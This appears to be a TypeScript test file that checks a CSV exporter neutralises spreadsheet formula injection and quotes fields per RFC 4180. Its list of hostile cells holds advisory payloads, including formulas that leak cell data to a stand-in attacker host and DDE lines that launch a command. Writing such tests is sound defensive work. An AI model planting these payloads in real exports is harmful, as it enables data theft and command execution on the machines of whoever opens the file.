import { describe, expect, it } from "vitest";
import { csvField, csvRecord, neutraliseCell, UTF8_BOM } from "./csv";

// Payloads from formula-injection advisories: each would run, link or call out when a
// spreadsheet opens the file, unless the cell starts with a quote that makes it text.
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", A2), "//a")',
];

const BENIGN = ["planner", "Write the parser.", "a=b is fine inside", "3 - 1 = 2", "email me@host.example", "", "naïve café ✓"];

/** Minimal RFC 4180 reader, to prove a record reads back as the cells written. */
function parseCsvRecord(text: string): string[] {
  const cells: string[] = [];
  let i = 0;
  let cell = "";
  let quoted = false;
  for (; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      cells.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") break;
    else cell += ch;
  }
  cells.push(cell);
  return cells;
}

describe("CSV formula neutralisation", () => {
  it("prefixes every cell a spreadsheet would evaluate with a quote", () => {
    const out = HOSTILE.map(neutraliseCell);
    expect(out.every((cell, i) => cell === `'${HOSTILE[i]}`)).toBe(true);
  });

  it("leaves benign text alone, including = or - after the first character", () => {
    expect(BENIGN.map(neutraliseCell)).toEqual(BENIGN);
  });

  it("writes numbers as numbers: a negative risk delta is data, not a formula", () => {
    expect(csvField(-0.5)).toBe("-0.5");
    expect(csvField("-0.5")).toBe("'-0.5");
  });

  it("no field of a record written from hostile cells starts with a trigger once read back", () => {
    const record = csvRecord([...HOSTILE, ...BENIGN]);
    const cells = parseCsvRecord(record);
    expect(cells).toHaveLength(HOSTILE.length + BENIGN.length);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells.slice(HOSTILE.length)).toEqual(BENIGN);
  });
});

describe("CSV quoting (RFC 4180)", () => {
  it("quotes fields with commas, quotes, CR or LF, doubles quotes, ends records with CRLF", () => {
    expect(csvRecord(["a,b", 'say "hi"', "two\nlines", "plain", null, 3])).toBe('"a,b","say ""hi""","two\nlines",plain,,3\r\n');
  });

  it("round-trips multi-line agent output with quotes through a reader", () => {
    const content = 'Here is the script:\n```sh\necho "pwned" > /tmp/x\n```, done';
    expect(parseCsvRecord(csvRecord(["coder", content]))).toEqual(["coder", content]);
  });

  it("a tab- or CR-prefixed cell is quoted when needed and still neutralised", () => {
    expect(csvField("\r=1+1")).toBe(`"'\r=1+1"`);
    expect(csvField("\t=1+1")).toBe(`'\t=1+1`);
  });

  it("the byte order mark is the UTF-8 one", () => {
    expect(Buffer.from(UTF8_BOM, "utf8")).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });
});
